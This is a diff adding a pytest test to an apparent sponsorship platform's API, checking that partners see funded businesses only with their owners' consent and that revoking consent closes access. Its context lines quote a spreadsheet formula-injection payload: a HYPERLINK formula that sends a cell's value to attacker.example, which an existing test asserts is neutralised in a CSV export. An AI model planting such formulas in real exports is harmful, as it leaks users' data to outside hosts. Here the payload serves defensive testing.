@@ -450,3 +450,50 @@ def test_the_impact_csv_neutralises_a_formula_after_a_semicolon_or_tab(
         assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], delimiter
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[1][1] == 'Warung Siti;\'=HYPERLINK("http://attacker.example/?x="&A1;"klik")\t\'+1'
+
+
+def test_a_partner_sees_the_businesses_it_funded_only_with_their_owners_consent(
+    client: FlaskClient, csr: Csr, auth: Auth, db_session: Session
+) -> None:
+    url = f"/v1/organizations/{csr.company.id}/funded-businesses"
+    sid = csr.propose(client).json["id"]
+    assert csr.act(client, sid, "accept", csr.alumna_h).status_code == 200
+    paid = csr.disburse(client, sid, 1_000_000).json["id"]
+    client.post(f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm", headers=csr.alumna_h)
+    checked = client.post(
+        f"/v1/businesses/{csr.business.id}/check-ins",
+        json={"trading": True, "revenue_idr": 3_000_000},
+        headers=csr.alumna_h,
+    )
+    assert checked.status_code == 201, checked.json
+    # A second business it funds, whose owner never consents: never listed.
+    other, other_h = auth.as_role(Role.ALUMNA)
+    quiet = BusinessFactory(owner_id=other.id, name="Keripik Bu Siti")
+    second = csr.propose(client, business_id=quiet.id).json["id"]
+    assert csr.act(client, second, "accept", other_h).status_code == 200
+    assert client.get(url, headers=csr.partner_h).json["items"] == []
+
+    consents = f"/v1/businesses/{csr.business.id}/consents"
+    client.post(consents, json={"organization_id": csr.company.id}, headers=csr.alumna_h)
+    page = client.get(url, headers=csr.partner_h)
+    assert page.status_code == 200 and page.headers["ETag"]
+    (item,) = page.json["items"]
+    assert item["business_id"] == csr.business.id and item["business_name"] == "Jahit Bu Ani"
+    assert item["value_received_idr"] == 1_000_000
+    assert item["first_disbursement_on"] == TODAY.isoformat()
+    assert item["regency"] == {"code": "32.75", "name": "Kota Bekasi"}
+    assert (item["check_ins"], item["months_trading"]) == (1, 1)
+    assert item["median_monthly_revenue_idr"] == 3_000_000
+    assert item["last_check_in_month"] == checked.json["month"] + "-01"
+    assert quiet.id not in str(page.json)
+    # Her consent to another organisation opens nothing to this one; revoked, it closes at once.
+    stranger = OrganizationFactory(name="PT Lain", verified_at=utcnow())
+    other_partner, other_partner_h = auth.as_role(Role.PARTNER)
+    member_of(stranger, other_partner)
+    mine = f"/v1/organizations/{stranger.id}/funded-businesses"
+    assert client.get(mine, headers=other_partner_h).json["items"] == []
+    assert_problem(client.get(url, headers=other_partner_h), 403)
+    client.delete(f"{consents}/{csr.company.id}", headers=csr.alumna_h)
+    assert client.get(url, headers=csr.partner_h).json["items"] == []
+    assert_problem(client.get(url, headers=csr.alumna_h), 403)
+    assert_problem(client.get(f"{url}?limit=101", headers=csr.partner_h), 422)
